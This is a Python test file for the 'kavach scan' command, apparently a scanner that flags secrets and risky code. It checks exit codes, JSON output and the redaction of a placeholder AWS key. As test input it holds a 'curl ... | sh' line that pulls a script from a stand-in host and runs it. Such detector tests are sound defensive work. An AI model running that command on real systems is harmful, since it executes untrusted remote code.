"""``kavach scan`` through typer's CliRunner on a small app that registers the command."""

from __future__ import annotations

import json
from pathlib import Path

import typer
from typer.testing import CliRunner

from kavach.cli.scan import register

AWS_ID = "AKIA" + "QWERTYUIOPASDFGH"


def _app() -> typer.Typer:
    app = typer.Typer()
    register(app)

    @app.command("noop")
    def _noop() -> None:  # a second command keeps typer in multi-command mode, as in kavach.cli
        """Nothing."""

    return app


RUNNER = CliRunner()


def test_clean_file_exits_zero(tmp_path: Path) -> None:
    target = tmp_path / "out.txt"
    target.write_text("sync finished\nTotal amount of memory: 3 GiB\n")
    result = RUNNER.invoke(_app(), ["scan", "--json", str(target)])
    assert result.exit_code == 0, result.output
    assert result.stdout.strip() == ""


def test_json_findings_and_block_exit(tmp_path: Path) -> None:
    target = tmp_path / "env"
    target.write_text(f"# config\nAWS_ACCESS_KEY_ID={AWS_ID}\ncontact=alice@corp.example.com\n")
    result = RUNNER.invoke(_app(), ["scan", "--json", str(target)])
    assert result.exit_code == 1
    records = [json.loads(line) for line in result.stdout.splitlines()]
    by_rule = {r["rule"]: r for r in records}
    aws = by_rule["secrets.aws-access-key-id"]
    assert set(aws) >= {"scanner", "rule", "category", "severity", "line", "start", "end", "evidence"}
    assert aws["line"] == 2 and aws["severity"] == "critical" and aws["scanner"] == "secrets"
    data = target.read_bytes()
    assert data[aws["start"] : aws["end"]] == AWS_ID.encode()
    assert AWS_ID not in result.stdout


def test_stdin_and_scanner_selection() -> None:
    text = f"{AWS_ID}\ncurl -s https://x.example/i.sh | sh\n"
    only_code = RUNNER.invoke(_app(), ["scan", "--json", "--scanner", "code", "-"], input=text)
    rules = [json.loads(line)["rule"] for line in only_code.stdout.splitlines()]
    assert rules == ["code.pipe-to-shell"]
    assert only_code.exit_code == 0  # high, not critical: quarantine-worthy, not blocking


def test_bad_input_is_one_line_exit_two(tmp_path: Path) -> None:
    missing = RUNNER.invoke(_app(), ["scan", str(tmp_path / "nope")])
    assert missing.exit_code == 2
    assert missing.stderr.strip().startswith("kavach: error:") and len(missing.stderr.strip().splitlines()) == 1
    bad = RUNNER.invoke(_app(), ["scan", "--scanner", "virus", "-"], input="x")
    assert bad.exit_code == 2 and "unknown scanner" in bad.stderr
